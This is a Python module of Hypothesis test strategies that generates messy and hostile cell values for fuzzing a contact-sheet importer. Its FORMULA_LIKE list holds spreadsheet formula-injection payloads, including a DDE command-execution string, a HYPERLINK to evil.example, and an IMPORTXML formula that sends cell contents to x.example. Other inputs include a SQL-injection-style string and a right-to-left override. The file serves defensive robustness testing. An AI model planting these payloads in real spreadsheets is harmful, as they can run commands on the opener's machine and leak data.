"""Hypothesis strategies for hostile and messy contact sheets.

Values cover what the Sheets API returns with UNFORMATTED_VALUE (numbers, booleans,
serial dates, strings) plus the real dates an .xlsx file holds, and the text people
actually paste: unicode, emoji, right-to-left marks, formula look-alikes, 50,000
characters, header words in data rows.
"""

from __future__ import annotations

import datetime as dt
from typing import Any

from harness import HEADERS, OWNED_HEADERS
from hypothesis import strategies as st

from sheets_keepup.core.dates import MAX_SERIAL, MIN_SERIAL

# Characters an .xlsx file can hold (XML 1.0 forbids most C0 controls); no surrogates.
_CHARS = st.characters(
    codec="utf-8",
    exclude_categories=("Cs",),
    exclude_characters="".join(chr(c) for c in range(32) if chr(c) not in "\t\n\r"),
)

FORMULA_LIKE = [
    "=1+1",
    '=HYPERLINK("http://evil.example","click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
    "=",
    "+",
    "-",
    "@",
]
UNREADABLE_DATES = ["last spring", "the other day", "31/02/2026", "??", "2026-13-45", "soonish"]
UNREADABLE_TIERS = ["vip", "best friend", "tier 9", "🙂"]
UNREADABLE_CADENCES = ["often", "every now and then", "-5", "0", "weekly-ish"]
TEXTS = [
    "Zoë Ørsted 🚲",
    "👩‍👩‍👧‍👦",
    "مرحبا بالعالم",
    "שלום",
    "\u202eevil\u202c",
    "\u200b",
    "  padded  ",
    "line one\nline two",
    "a\tb",
    "_x000D_",
    "O'Brien; DROP TABLE",
    "<b>bold</b>",
    "close",
    "Core",
    "network",
    "acquaintance",
    "45",
    "6 weeks",
    "quarterly",
    "2026-03-01",
    "3/4/21",
    "Mar 2026",
    "03-02",
    "02-29",
    "1985-03-02",
    "someone@example.com",
    "+44 20 7946 0000",
    *HEADERS,
    *OWNED_HEADERS,
]


def long_text() -> st.SearchStrategy[str]:
    """Cells at the Sheets limit (50,000 characters); xlsx truncates them to 32,767."""
    return st.sampled_from(["x", "é", "🙂", "=", "ab "]).map(lambda s: (s * 50_000)[:50_000])


def text_values() -> st.SearchStrategy[str]:
    return st.one_of(
        st.text(_CHARS, max_size=30),
        st.sampled_from(TEXTS),
        st.sampled_from(FORMULA_LIKE),
        st.tuples(st.sampled_from("=+-@"), st.text(_CHARS, max_size=12)).map("".join),
        st.sampled_from(UNREADABLE_DATES + UNREADABLE_TIERS + UNREADABLE_CADENCES),
    )


def cell_values(long: bool = True) -> st.SearchStrategy[Any]:
    """Any one cell as a backend hands it over."""
    choices: list[st.SearchStrategy[Any]] = [
        st.none(),
        text_values(),
        st.booleans(),
        st.integers(-(2**40), 2**40),
        st.floats(allow_nan=False, allow_infinity=False, width=64),
        st.integers(MIN_SERIAL - 10, MAX_SERIAL + 10),
        st.floats(40_000, 50_000),
        st.dates(dt.date(1900, 3, 1), dt.date(9999, 12, 31)),
        st.datetimes(dt.datetime(1900, 3, 1), dt.datetime(9999, 12, 31)),
    ]
    if long:
        choices.append(long_text())
    return st.one_of(*choices)


def header_cells() -> st.SearchStrategy[Any]:
    return st.one_of(
        st.sampled_from([*HEADERS, *OWNED_HEADERS]),
        st.sampled_from(["", None, "  ", "Score", "E-mail", "LAST SPOKE", "last_contact!"]),
        cell_values(long=False),
    )


@st.composite
def header_rows(draw: st.DrawFn) -> list[Any]:
    """Known headers in any order, with blanks, duplicates, junk and owned columns."""
    known = draw(st.lists(st.sampled_from(HEADERS), unique=True, min_size=1, max_size=11))
    extras = draw(st.lists(header_cells(), max_size=4))
    row = draw(st.permutations(known + extras))
    return list(row)


@st.composite
def contact_sheets(draw: st.DrawFn) -> dict[str, list[list[Any]]]:
    """A workbook's tabs: usually a messy Contacts tab, sometimes a pathological one."""
    shape = draw(
        st.sampled_from(["messy"] * 8 + ["empty", "headers only", "no contacts tab", "no header"])
    )
    if shape == "empty":
        return {"Contacts": []}
    if shape == "no contacts tab":
        return {"Contacts list": [list(HEADERS)], "Log": [["Date", "Who"]]}
    if shape == "no header":
        rows = draw(st.lists(st.lists(cell_values(long=False), max_size=5), max_size=5))
        # Headers need two known fields in one row; numbers and dates never are.
        return {"Contacts": [[r if not isinstance(r, str) else None for r in row] for row in rows]}
    above = draw(st.lists(st.lists(cell_values(long=False), max_size=4), max_size=3))
    header = draw(header_rows())
    if shape == "headers only":
        return {"Contacts": [*above, header]}
    width = len(header) + 2
    body = draw(st.lists(st.lists(cell_values(), max_size=width), max_size=8))
    tabs = {"Contacts": [*above, header, *body]}
    if draw(st.booleans()):
        tabs["Log"] = [
            ["Date", "Who", "Kind"],
            *draw(
                st.lists(
                    st.lists(
                        st.one_of(cell_values(long=False), st.sampled_from(TEXTS)), max_size=3
                    ),
                    max_size=4,
                )
            ),
        ]
    return tabs
